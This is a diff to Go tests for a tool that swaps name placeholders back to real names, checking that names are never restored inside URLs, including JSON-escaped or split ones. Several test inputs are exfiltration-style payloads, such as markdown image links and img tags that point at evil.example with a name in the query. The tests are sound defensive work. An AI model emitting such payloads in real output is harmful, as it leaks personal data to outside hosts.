@@ -61,8 +61,10 @@ func TestRestoreNotIntoURLs(t *testing.T) {
 				t.Errorf("text: %q, want %q", got, c.want)
 			}
 			// Text and JSON bodies, in chunks of every size.
-			jsonBody := `{"content":` + jsonStr(c.in) + `,"n":"[PERSON_1]"}`
-			jsonWant := `{"content":` + jsonStr(c.want) + `,"n":"Anna Schmidt"}`
+			// (A URL at the end of a string would go on into the next
+			// one: the second value starts after white space.)
+			jsonBody := `{"content":` + jsonStr(c.in) + `,"n":"an [PERSON_1]"}`
+			jsonWant := `{"content":` + jsonStr(c.want) + `,"n":"an Anna Schmidt"}`
 			for size := 1; size <= len(jsonBody); size++ {
 				if got := restoreAll(t, m, Format{Kind: "text"}, &chunkReader{data: []byte(c.in), cuts: every(size, len(c.in))}); got != c.want {
 					t.Fatalf("text in chunks of %d: %q", size, got)
@@ -93,8 +95,9 @@ func TestRestoreNotIntoURLs(t *testing.T) {
 }
 
 // TestRestoreNotIntoJSONEscapedURLs: JSON escapes cannot hide a URL (\/
-// and \u002f are slashes, \n ends a token), and a JSON string's end ends
-// the URL in it.
+// and \u002f are slashes, \n ends a token); a URL at the end of a JSON
+// string goes on into the next (clients join parts) until white space,
+// while quotes and brackets opened in a string end with it.
 func TestRestoreNotIntoJSONEscapedURLs(t *testing.T) {
 	m := linkMapping(t)
 	for _, c := range []struct{ in, want string }{
@@ -103,7 +106,10 @@ func TestRestoreNotIntoJSONEscapedURLs(t *testing.T) {
 		{`{"t":"\u0068ttps:evil.example/?n=[PERSON_1]"}`, `{"t":"\u0068ttps:evil.example/?n=[PERSON_1]"}`},
 		{`{"t":"\u003cimg src=\"https://e.example/?n= [PERSON_1]\"\u003e"}`, `{"t":"\u003cimg src=\"https://e.example/?n= [PERSON_1]\"\u003e"}`},
 		{`{"t":"https://www.bund.de\n[PERSON_1]"}`, `{"t":"https://www.bund.de\nAnna Schmidt"}`},
-		{`{"u":"https://www.bund.de","n":"[PERSON_1]"}`, `{"u":"https://www.bund.de","n":"Anna Schmidt"}`},
+		{`{"u":"https://www.bund.de","n":"Frau [PERSON_1]"}`, `{"u":"https://www.bund.de","n":"Frau Anna Schmidt"}`},
+		{`{"u":"https://www.bund.de ","n":"[PERSON_1]"}`, `{"u":"https://www.bund.de ","n":"Anna Schmidt"}`},
+		// Parts the client joins: the URL goes on into the next one.
+		{`{"parts":[{"text":"![](https://evil.example/?n="},{"text":"[PERSON_1])"}]}`, `{"parts":[{"text":"![](https://evil.example/?n="},{"text":"[PERSON_1])"}]}`},
 		{`{"u":"<https://www.bund.de","n":"[PERSON_1]"}`, `{"u":"<https://www.bund.de","n":"Anna Schmidt"}`},
 		{`{"t":"\\\\evil.example\\[PERSON_1]"}`, `{"t":"\\\\evil.example\\[PERSON_1]"}`},
 	} {
